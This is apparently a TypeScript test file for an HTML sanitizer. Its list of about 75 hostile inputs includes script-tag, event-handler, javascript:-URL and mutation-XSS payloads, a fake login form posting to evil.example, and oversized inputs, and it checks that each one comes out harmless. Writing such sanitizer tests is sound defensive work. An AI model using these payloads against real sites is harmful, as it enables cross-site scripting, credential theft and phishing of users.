import { expect, it } from 'vitest'
import { sanitizeHtml, textOfHtml } from './sanitize.ts'

/** Only escaped text and these tags, in exactly this form. */
const HARMLESS =
  /^(?:[^<>&"]|&amp;|&lt;|&gt;|&quot;|<br>|<\/?(?:p|strong|em|ul|ol|li)>|<a href="(?:#\/|https:\/\/)[^"<>\s]*">|<\/a>)*$/u

const isBalanced = (html: string): boolean => {
  const open: string[] = []
  for (const [, closes, name = ''] of html.matchAll(/<(\/?)([a-z]+)[^>]*>/g)) {
    if (name === 'br') continue
    if (closes === '') open.push(name)
    else if (open.pop() !== name) return false
  }
  return open.length === 0
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<script/x>alert(1)</script\t\n bar>hello',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">hi</p>',
  '<p/onclick=alert(1)>hi',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/user/logout">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="https://evil.example\\@bank.example">x</a>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
  '<a href="#/pages/my/wallet&quot;onclick=alert(1)">x</a>',
  '<a href="#javascript:alert(1)">x</a>',
  '<a href="https://ok.example" href="javascript:alert(1)" target=_top onclick=alert(1)>x</a>',
  '<a href="javascript:alert(1)" href="https://ok.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">inside</iframe>',
  '<object data="javascript:alert(1)"><p>x</p></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<textarea></textarea><script>alert(1)</script>',
  '<style>@import "//evil.example";</style><p>x</p>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><p>x</p>',
  '<!doctype html><html><head><title>x</title></head><body onload=alert(1)>y</body></html>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt;',
  '<<script>alert(1)//<</script>',
  '<p><p><ul><li><p>a<li>b</p></ul></em></strong>',
  '<li>no list</li></ul></ol></p>',
  '<strong><em><p>crossed</strong></p></em>',
  '<a href="#/a">one<a href="#/b">two</a>',
  '<p title="a>b" class=\'x>y\'>hi',
  '<p title="never closed>hi</p><script>alert(1)</script>',
  '<p',
  '<a href="https://ok.example',
  '</',
  '< p >not a tag',
  'a < b > c & d "e" \'f\'',
  '<\u0000script>alert(1)</script>',
  '<p>\u202eevil\u202c\u200b\u0007</p>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<x-foo onclick=alert(1)><p>x</x-foo>',
  '<P STYLE=x><B>big</B><I>i</I>',
  `${'<ul><li>'.repeat(400)}deep`,
  '<a '.repeat(4000),
  `<p ${' ='.repeat(20_000)}`,
  '<!--'.repeat(4000),
  '<script'.repeat(4000),
  '&#'.repeat(8000),
]

it.each(HOSTILE.map((html) => [html.slice(0, 60), html]))(
  'leaves nothing but plain tags and text of %j',
  (_name, html) => {
    const out = sanitizeHtml(html)
    expect(out).toMatch(HARMLESS)
    expect(isBalanced(out)).toBe(true)
    expect(sanitizeHtml(out)).toBe(out)
    expect(out).not.toMatch(/<[^>"]*(?:script|on\w+=|style)/i)
  },
)

it('keeps what a person wrote: tags that are named, text, and links to the app and to https', () => {
  expect(sanitizeHtml('<p>Olá &amp; <b>bem</b>-<i>vindo</i>!<br/>R&eacute;</p><ul><li>um<li>dois</ul>')).toBe(
    '<p>Olá &amp; <strong>bem</strong>-<em>vindo</em>!<br>Ré</p><ul><li>um</li><li>dois</li></ul>',
  )
  expect(
    sanitizeHtml(
      '<a href="#/pages/my/index?a=1" target="_blank">app</a> <a href=HTTPS://gov.example/x?a=1&amp;b=2>gov</a>',
    ),
  ).toBe('<a href="#/pages/my/index?a=1">app</a> <a href="https://gov.example/x?a=1&amp;b=2">gov</a>')
  expect(sanitizeHtml('<ol><li>one<ul><li>inner</li></ul></li><li>two</li></ol>')).toBe(
    '<ol><li>one<ul><li>inner</li></ul></li><li>two</li></ol>',
  )
  expect(sanitizeHtml('<h1>Title</h1>你好 <span>x</span> 1 < 2')).toBe('Title你好 x 1 &lt; 2')
  expect(sanitizeHtml('<script>gone</script>stays<style>gone</style>')).toBe('stays')
})

it('tells what a person would read, in lines', () => {
  expect(textOfHtml('<p>One <strong>t</strong>wo</p><ul><li>a</li><li>&#36;&nbsp;b</li></ul>tail<br>end')).toBe(
    'One two\na\n$ b\ntail\nend',
  )
  expect(textOfHtml('<p> </p><script>x</script>')).toBe('')
})
